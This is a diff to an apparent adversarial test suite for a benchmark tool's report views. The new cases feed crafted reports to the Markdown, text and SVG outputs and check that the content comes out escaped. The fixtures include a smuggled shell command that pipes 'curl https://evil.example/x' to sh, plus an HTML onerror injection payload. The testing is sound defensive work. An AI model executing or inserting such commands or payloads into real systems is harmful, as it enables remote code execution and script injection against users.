@@ -1,6 +1,9 @@
 """Hostile inputs against a bridge checkout (issue 22), as an attacker would
 try them: devices, FIFOs, endless and random stdin, unicode digits, deep
-nesting, crafted report fields, crafted replays, -o through links and FIFOs.
+nesting, crafted report fields, crafted replays, -o through links and FIFOs,
+and (issue 33) what the views print of a report: a crafted reproduce line,
+tags, backticks and pipes in Markdown, absurd figures in the text view, and
+controls, lone surrogates and TeX in a plot.
 
 Each case runs `python -m bridge ...` with the tree first on PYTHONPATH, in
 a fresh temporary directory, with HOME, XDG_CACHE_HOME and TMPDIR private to
@@ -26,6 +29,7 @@ import argparse
 import contextlib
 import json
 import os
+import re
 import shutil
 import signal
 import subprocess
@@ -34,6 +38,7 @@ import tempfile
 import threading
 import time
 import uuid
+import xml.etree.ElementTree as ET
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -629,6 +634,128 @@ def replay_cases() -> dict[str, Callable[[Ctx], Spec]]:
     }
 
 
+def _row_cells(line: str) -> int:
+    """How many cells GitHub reads in a pipe-table row: split at each `|`
+    that no backslash escapes."""
+    cells, i = 1, 0
+    while i < len(line):
+        if line[i] == "\\":
+            i += 2
+            continue
+        cells += line[i] == "|"
+        i += 1
+    return cells
+
+
+def markdown_inert(run: Run) -> tuple[str, str] | None:
+    """No tag of the report's, no second command, every table row as wide as its header."""
+    if re.search(r"<(?!/?(details|summary)>)/?[A-Za-z!]", _outside_code(run.stdout)):
+        return "bad output", "a tag from the report reached the Markdown"
+    if "evil.example" in run.stdout:
+        return "bad output", "the report's own reproduce line was printed"
+    width = None
+    for line in run.stdout.splitlines():
+        if not line.startswith("|"):
+            width = None
+            continue
+        n = _row_cells(line)
+        if width is not None and n != width:
+            return "bad output", f"a table row of {n} cells under a header of {width}"
+        width = n if width is None else width
+    return None
+
+
+def _outside_code(md: str) -> str:
+    """The Markdown without its fenced blocks and code spans (where a tag is text)."""
+    md = re.sub(r"(?ms)^ *(`{3,}).*?^ *\1`*$", "", md)
+    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", md)
+
+
+def text_fits(run: Run) -> tuple[str, str] | None:
+    wide = [x for x in run.stdout.splitlines() if len(x) > 72]
+    return ("bad output", f"{len(wide)} lines over 72 columns") if wide else None
+
+
+def svg_ok(path: Path) -> Callable[[Run], tuple[str, str] | None]:
+    def check(run: Run) -> tuple[str, str] | None:
+        raw = [c for c in (ESC, "\x07", "\r") if c in run.stderr]
+        if raw:
+            return "bad output", f"raw {', '.join(map(repr, raw))} on stderr"
+        if run.rc == 0:
+            try:
+                ET.parse(path)
+            except (ET.ParseError, OSError) as exc:
+                return "bad output", f"the SVG is not XML ({exc})"
+        return None
+
+    return check
+
+
+def view_cases() -> dict[str, Callable[[Ctx], Spec]]:
+    """Issue 33: what the views print of a report is escaped for where it stands."""
+
+    def markdown(change: Callable[[dict], None]) -> Callable[[Ctx], Spec]:
+        return lambda ctx: Spec(
+            ["report", ctx.report("r.json", change), "--format", "markdown"],
+            expect="ok",
+            check=markdown_inert,
+        )
+
+    def each_result(key: str, text: str) -> Callable[[dict], None]:
+        def change(d: dict) -> None:
+            for r in d["results"]:
+                r[key] += text
+
+        return change
+
+    def scenarios(d: dict) -> None:
+        for sc in d["scenarios"]:
+            sc["description"] = "</details><img src=x onerror=alert(1)>"
+
+    def huge(d: dict) -> None:
+        for r in d["results"]:
+            if r.get("samples"):
+                r["samples"] = [2**63 - 1 - i for i in range(len(r["samples"]))]
+                r["loops"] = 1
+                for key in ("sample_cpus", "sample_cpu_ns", "sample_wait_ns", "sample_user_ns"):
+                    r.pop(key, None)
+
+    def huge_text(ctx: Ctx) -> Spec:
+        # Four scenarios, some with one openssl run: the widest text tables.
+        fixture = ctx.tree / "tests" / "fixtures" / "roundtrip" / "run-mix2.json"
+        data = json.loads(fixture.read_text())
+        huge(data)
+        report = ctx.write("huge.json", json.dumps(data))
+        return Spec(["report", report, "--format", "text"], expect="ok", check=text_fits)
+
+    def plot(text: str) -> Callable[[Ctx], Spec]:
+        def setup(ctx: Ctx) -> Spec:
+            svg = ctx.work / "p.svg"
+            report = ctx.report("r.json", each_result("call", text))
+            # matplotlib builds its font cache in the case's own HOME first.
+            return Spec(
+                ["plot", report, "--svg", str(svg)],
+                expect="ok",
+                timeout=RUN_TIMEOUT,
+                check=svg_ok(svg),
+            )
+
+        return setup
+
+    crafted = "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh"
+    return {
+        "markdown: reproduce '--quick; curl ... | sh'": markdown(
+            lambda d: d.__setitem__("reproduce", crafted)
+        ),
+        "markdown: description '</details><img onerror>'": markdown(scenarios),
+        "markdown: backticks and pipes in a call": markdown(each_result("call", "`|``|")),
+        "text: samples near 2**63": huge_text,
+        "plot: ESC, BEL and CR in a call": plot(HOSTILE_TEXT + "\r"),
+        "plot: a lone surrogate in a call": plot("\ud800"),
+        "plot: $...$ in a call": plot("$\\frac{$"),
+    }
+
+
 def all_cases() -> dict[str, Callable[[Ctx], Spec]]:
     cases: dict[str, Callable[[Ctx], Spec]] = {}
     for group in (
@@ -641,6 +768,7 @@ def all_cases() -> dict[str, Callable[[Ctx], Spec]]:
         speed_cases,
         output_cases,
         replay_cases,
+        view_cases,
     ):
         cases.update(group())
     return cases
